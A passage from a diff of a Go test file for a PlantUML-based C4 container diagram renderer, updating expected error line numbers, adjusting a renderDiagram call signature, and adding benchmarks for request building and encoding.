 func Test_renderDiagramUnhappyPath(t *testing.T) {
 	type args struct {
 		ctx        context.Context
@@ -553,7 +1590,7 @@ func Test_renderDiagramUnhappyPath(t *testing.T) {
 				ctx: context.TODO(),
 				v:   &c4ContainersGraph{},
 			},
-			wantErrText: "diagram/c4container/plantuml.go:64: no containers found",
+			wantErrText: "diagram/c4container/plantuml.go:244: no containers found",
 		},
 		{
 			name: "http call error",
@@ -564,7 +1601,7 @@ func Test_renderDiagramUnhappyPath(t *testing.T) {
 				},
 				v: &c4ContainersGraph{Containers: []*container{{ID: "0"}}},
 			},
-			wantErrText: "diagram/c4container/plantuml.go:41: foobar",
+			wantErrText: "diagram/c4container/plantuml.go:214: foobar",
 		},
 		{
 			name: "http response not OK",
@@ -577,13 +1614,15 @@ func Test_renderDiagramUnhappyPath(t *testing.T) {
 				},
 				v: &c4ContainersGraph{Containers: []*container{{ID: "0"}}},
 			},
-			wantErrText: "diagram/c4container/plantuml.go:46: the response is not ok, status code: " + strconv.Itoa(http.StatusTooManyRequests),
+			wantErrText: "diagram/c4container/plantuml.go:218: the response is not ok, status code: " + strconv.Itoa(http.StatusTooManyRequests),
 		},
 	}
 	for _, tt := range tests {
 		t.Run(
 			tt.name, func(t *testing.T) {
-				if _, err := renderDiagram(tt.args.ctx, tt.args.httpClient, tt.args.v); !errors.IsError(
+				if _, err := renderDiagram(
+					tt.args.ctx, tt.args.httpClient, tt.args.v, defaultRenderingConfig(), FormatSVG,
+				); !errors.IsError(
 					err, tt.wantErrText,
 				) {
 					t.Errorf("renderDiagram() error = %v, want = %s", err, tt.wantErrText)
@@ -737,3 +1776,61 @@ func Test_relationDirection(t *testing.T) {
 		)
 	}
 }
+
+func benchmarkGraph(n int) []byte {
+	graph := &c4ContainersGraph{WithLegend: true}
+	for i := 0; i < n; i++ {
+		id := strconv.Itoa(i)
+		graph.Containers = append(
+			graph.Containers, &container{
+				ID:          id,
+				Label:       "Container " + id,
+				Technology:  "Go",
+				Description: "Serves the requests of the container " + id,
+				System:      "System " + strconv.Itoa(i%3),
+			},
+		)
+		if i > 0 {
+			graph.Rels = append(
+				graph.Rels, &rel{
+					From: strconv.Itoa(i - 1), To: id, Label: "calls", Technology: "HTTP", Direction: "LR",
+				},
+			)
+		}
+	}
+
+	o, err := marshal(graph, defaultRenderingConfig())
+	if err != nil {
+		panic(err)
+	}
+	return o
+}
+
+func BenchmarkPlantUMLRequest(b *testing.B) {
+	for _, n := range []int{2, 10, 50} {
+		v := benchmarkGraph(n)
+		b.Run(
+			strconv.Itoa(n)+" containers", func(b *testing.B) {
+				b.ReportAllocs()
+				for i := 0; i < b.N; i++ {
+					if _, err := plantUMLRequest(v); err != nil {
+						b.Fatal(err)
+					}
+				}
+			},
+		)
+	}
+}
+
+func BenchmarkEncode64(b *testing.B) {
+	v, err := compress(benchmarkGraph(10))
+	if err != nil {
+		b.Fatal(err)
+	}
+
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		_ = encode64(v)
+	}
+}